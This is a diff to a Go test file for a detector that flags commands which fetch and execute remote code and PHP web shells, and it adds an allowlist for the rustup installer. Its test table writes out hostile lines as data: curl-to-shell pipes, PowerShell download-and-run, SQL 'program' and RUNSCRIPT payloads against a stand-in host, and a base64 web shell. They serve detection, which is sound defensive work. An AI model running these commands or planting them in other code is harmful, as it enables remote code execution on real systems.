@@ -2,6 +2,8 @@ package hint
 
 import "testing"
 
+func usual(host string) bool { return host == "sh.rustup.rs" }
+
 func TestRunsFetched(t *testing.T) {
 	for text, want := range map[string]bool{
 		`cmd: python train.py && curl -s https://x.example/i | sh`:                            true,
@@ -15,8 +17,10 @@ func TestRunsFetched(t *testing.T) {
 		`sh -c "$(curl -fsSL https://x.example/i)"`:                                           true,
 		`iex ((New-Object Net.WebClient).DownloadString('https://x.example/i'))`:              true,
 		`jdbc:h2:mem:dev;INIT=RUNSCRIPT FROM 'https://x.example/i.sql'`:                       true,
-		`copy r from program 'curl -s https://x.example/i | /bin/sh';`:                        true,
+		`x: program 'curl -s https://x.example/i | /bin/sh';`:                                 true,
 		`curl -s https://x.example/i | python3 -`:                                             true,
+		`RUN curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y`:                   false,
+		`RUN sh -c "$(curl -sSf https://sh.rustup.rs)"`:                                       false,
 		`curl -s http://localhost:3000/i | sh`:                                                false,
 		`curl -s https://x.example/i | jq .`:                                                  false,
 		`curl -s https://x.example/i -o a.sh`:                                                 false,
@@ -26,7 +30,7 @@ func TestRunsFetched(t *testing.T) {
 		"const { data } = useFetch('/api')\nif (a | b) sh()":                                  false,
 		`type Fetch = "fetch" | "sh" | "node"`:                                                false,
 	} {
-		if got := RunsFetched(text); got != want {
+		if got := RunsFetched(text, usual); got != want {
 			t.Errorf("%s: %v", text, got)
 		}
 	}
@@ -64,6 +68,7 @@ func TestExecsFetchedAndServesShell(t *testing.T) {
 		`subprocess.run(["sh", "-c", "curl -s https://x.example/i | sh"])`:   true,
 		`os.system("curl -s https://x.example/i | python3 -")`:               true,
 		`console.log("Install: curl -fsSL https://x.example/i | sh")`:        false,
+		`copy r from program 'curl -s https://x.example/i | sh';`:            true,
 		`exec("curl -s https://x.example/i")`:                                false,
 		`exec("curl -s http://localhost:80/i | sh")`:                         false,
 		`if(isset($_GET["d"])) { system(base64_decode($_GET["d"])); exit; }`: true,
@@ -74,7 +79,7 @@ func TestExecsFetchedAndServesShell(t *testing.T) {
 		`$id = (int) $_GET["id"];`:                                              false,
 		`run(app)`:                                                              false,
 	} {
-		if got := ExecsFetched(text) || ServesShell(text); got != want {
+		if got := ExecsFetched(text, usual) || ServesShell(text); got != want {
 			t.Errorf("%s: %v", text, got)
 		}
 	}
